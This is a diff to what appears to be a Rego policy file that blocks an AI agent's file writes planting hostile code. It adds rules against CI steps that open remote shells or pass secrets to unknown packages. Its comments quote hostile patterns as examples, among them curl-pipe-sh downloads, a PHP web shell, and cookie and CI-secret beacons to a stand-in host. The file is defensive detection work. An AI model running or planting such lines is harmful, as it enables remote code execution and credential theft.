@@ -299,7 +299,7 @@ decision contains {"id": "path/editor-auto-approve", "decision": "deny", "reason
 }
 
 # @rule path/planted-exec deny
-# A file tool's write that plants, in code that runs when the project does, a run of downloaded or decoded code (OS.execute("sh", ["-c", "curl … | sh"]) in an editor plugin, system('curl … | sh') in an initializer, execute_process(COMMAND sh -c "wget -qO- … | bash") in CMakeLists.txt, exec(urlopen(…).read()) in a module) or a command built from a web request's input (system($_GET['c']): a web shell, MITRE ATT&CK T1505.003), or a send of the browser's cookies or stored tokens, the environment or a CI's secrets to another host (navigator.sendBeacon('https://x.example/c', document.cookie), fetch(URL, {body: localStorage.getItem('token')}), run: echo "${{ toJSON(secrets) }}" | curl -d @- URL; written.rs beacons, read in notebooks, web pages and YAML files too). Read line by line from the added text only; documents and Dockerfiles are not read, nor CI files except for beacons (hookward-facts src/written.rs). In a shell script (.sh, .zsh, rc files) a download run is asked about instead (path/planted-exec-script): the script runs when somebody runs it, and is judged again then.
+# A file tool's write that plants, in code that runs when the project does, a run of downloaded or decoded code (OS.execute("sh", ["-c", "curl … | sh"]) in an editor plugin, system('curl … | sh') in an initializer, execute_process(COMMAND sh -c "wget -qO- … | bash") in CMakeLists.txt, exec(urlopen(…).read()) in a module) or a command built from a web request's input (system($_GET['c']): a web shell, MITRE ATT&CK T1505.003), or a send of the browser's cookies or stored tokens, the environment or a CI's secrets to another host (navigator.sendBeacon('https://x.example/c', document.cookie), fetch(URL, {body: localStorage.getItem('token')}), run: echo "${{ toJSON(secrets) }}" | curl -d @- URL; written.rs beacons, read in notebooks, web pages and YAML files too). Read line by line from the added text only; documents and Dockerfiles are not read, nor CI files except for beacons (hookward-facts src/written.rs); a CI step that opens the runner's shell to whoever connects (mxschmitt/action-tmate, action-upterm not limited to the actor) or hands secrets.* to a package downloaded and run on the spot that is not a well-known one (npx -y @x/deploy-helper --token ${{ secrets.DEPLOY_TOKEN }}) is denied too (h-runlater, hookward-facts src/run_later.rs ci_outsiders); Dockerfile RUN lines and the other files whose text runs later are judged by the shell rules as the commands they hold (run_later.rs). In a shell script (.sh, .zsh, rc files) a download run is asked about instead (path/planted-exec-script): the script runs when somebody runs it, and is judged again then.
 decision contains {"id": "path/planted-exec", "decision": "deny", "reason": reason} if {
 	some f in object.get(input.facts, "written_exec", [])
 	planted_denied(f)
@@ -316,6 +316,12 @@ planted_denied(f) if f.kind == "beacon"
 # the agent.
 planted_denied(f) if f.kind in {"secret_leak", "pwn_request", "fetched_persist", "secret_upload", "reverse_shell"}
 
+# h-runlater (hookward-facts run_later.rs ci_outsiders): a CI step that opens the runner's shell
+# to whoever connects (tmate, upterm not limited to the actor), or hands the repository's
+# secrets to a package downloaded and run on the spot that is not one of its registry's
+# well-known names.
+planted_denied(f) if f.kind in {"remote_shell", "secret_to_unknown_package"}
+
 planted_denied(f) if not f.script
 
 planted_what := {
@@ -328,6 +334,8 @@ planted_what := {
 	"fetched_persist": "downloaded code, installed to run again on a schedule or at login",
 	"secret_upload": "a read of credentials and a send of them",
 	"reverse_shell": "a shell for a remote host",
+	"remote_shell": "a shell on the CI runner for whoever connects to its session (not limited to the actor's keys)",
+	"secret_to_unknown_package": "the repository's secrets handed to a package downloaded and run on the spot that is not one of its registry's well-known ones",
 }
 
 # @rule path/secret-in-code ask
